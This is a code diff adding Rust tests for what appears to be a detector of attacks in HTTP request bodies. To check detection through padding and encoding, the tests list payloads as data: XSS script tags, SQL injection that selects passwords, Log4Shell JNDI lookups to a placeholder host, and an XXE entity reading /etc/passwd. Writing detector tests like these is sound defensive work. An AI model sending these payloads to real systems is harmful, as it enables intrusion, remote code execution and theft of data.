@@ -134,3 +134,41 @@ fn many_short_values_are_no_attack() {
     let body = format!("[{}\"\"]", "\"ab cd\",".repeat(1000));
     assert!(!in_body(&["application/json"], body.as_bytes()));
 }
+
+/// A text that is long, and decodes to another.
+fn long_and_escaped(text: &str) -> String {
+    format!("{text} {} &lt; ", "and some more of it, as people write. ".repeat(60))
+}
+
+#[test]
+fn a_long_text_hides_nothing_behind_what_it_decodes_to() {
+    // The quote that is decoded ends what the one behind it should begin.
+    let cut = long_and_escaped("a%27 is a quote ' or 1=1 -- ");
+    assert!(in_body(&["text/plain"], cut.as_bytes()));
+    for attack in [
+        "<script>go()</script>",
+        "&lt;script>go()&lt;/script>",
+        "\\u003cscript\\u003ego()</script>",
+        "1&#39; union select password from users -- ",
+        "1' union select password from users -- ",
+        "${jndi:ldap://x.example/a}",
+        "%24{jndi:ldap://x.example/a}",
+        "%253Cscript>go()</script>",
+    ] {
+        let text = long_and_escaped(attack);
+        assert!(in_body(&["text/plain"], text.as_bytes()), "{attack}");
+    }
+    assert!(!in_body(&["text/plain"], long_and_escaped("Nothing to see.").as_bytes()));
+}
+
+#[test]
+fn a_document_is_looked_at_whatever_it_is_sent_as() {
+    let entity =
+        b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>";
+    for media in
+        ["text/plain", "application/xml", "application/x-www-form-urlencoded", "image/svg+xml"]
+    {
+        assert!(in_body(&[media], entity), "{media}");
+    }
+    assert!(in_body(&[], entity));
+}
